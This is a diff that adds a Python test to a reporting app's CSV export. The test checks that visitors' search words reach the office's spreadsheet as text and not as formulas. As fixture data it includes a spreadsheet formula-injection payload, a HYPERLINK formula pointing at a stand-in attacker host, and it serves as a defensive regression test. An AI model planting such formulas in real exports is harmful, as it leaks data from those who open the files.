@@ -46,3 +46,19 @@ def test_an_unknown_dialect_is_explained_in_the_office_users_language(client, of
 
     assert response.status_code == 400
     assert "Es gibt kein CSV-Format „tsv“" in response.content.decode()
+
+
+def test_what_visitors_searched_reaches_the_office_s_csv_export_as_text_not_as_a_formula(
+    client, office_user, searches
+):
+    # A visitor's search words and a partner's titles reach the office's spreadsheet: a cell that starts
+    # like a formula ("=HYPERLINK(...)") would run when the office opens the export.
+    searches('=HYPERLINK("http://evil.example/?"&A1;"Mehr")', results=0)
+    searches("@SUMME(Kurs)", results=0)
+    client.force_login(office_user)
+
+    for table in ("searches", "no_results"):
+        response = client.get(reverse("reports:demand"), {"table": table, "export": "csv"})
+        cells = [row[0] for row in german_csv_rows(response)[1:]]
+        assert not any(cell.startswith(("=", "@")) for cell in cells), table
+        assert "'@summe(kurs)" in cells, table
